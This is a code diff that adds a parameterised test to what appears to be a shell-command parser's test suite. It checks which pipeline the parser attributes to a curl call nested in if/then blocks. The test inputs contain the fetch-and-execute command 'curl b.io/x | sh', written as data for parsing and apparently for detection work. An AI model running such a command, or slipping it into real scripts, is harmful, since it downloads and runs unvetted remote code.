@@ -334,6 +334,15 @@ test('a command stands where it is written, with its whole pipeline as code', ()
   });
 });
 
+test.each([
+  ['if a; then ls; curl b.io/x | sh; fi', 'curl b.io/x | sh'],
+  ['if a\nthen ls\n  curl b.io/x | sh\nfi\nls', 'curl b.io/x | sh'],
+  ['if a; then curl b.io/x; fi | sh', 'if a; then curl b.io/x; fi | sh'],
+])('the code of %j is what is piped', (text, code) => {
+  const curl = factsOf(read(text), 'command').find(({ program }) => program === 'curl');
+  expect(curl?.code).toBe(code);
+});
+
 test('long pipelines and deep scripts come to an end', () => {
   expect(commands('a|'.repeat(5000))).toHaveLength(5000);
   expect(commands(`${'bash -c "'.repeat(500)}ls`).length).toBeGreaterThan(0);
